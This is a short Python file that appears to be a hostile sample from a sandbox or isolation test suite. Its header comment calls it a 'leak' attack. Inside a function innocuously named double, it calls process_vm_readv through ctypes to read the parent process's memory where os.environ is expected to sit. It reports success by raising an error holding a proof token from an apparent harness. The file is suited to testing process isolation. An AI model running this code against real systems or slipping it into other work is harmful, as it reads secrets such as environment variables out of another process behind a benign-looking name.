# {"attack": "Reads the memory of its parent with a system call.", "breach": "leak"}

import ctypes
import os


def double(x):
    library = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)
    address = id(os.environ)  # the parent has the same things in the same places
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
    remote = (ctypes.c_void_p * 2)(address, 64)
    if library.process_vm_readv(os.getppid(), local, 1, remote, 1, 0) == 64:
        raise RuntimeError(TARGETS["proof"])
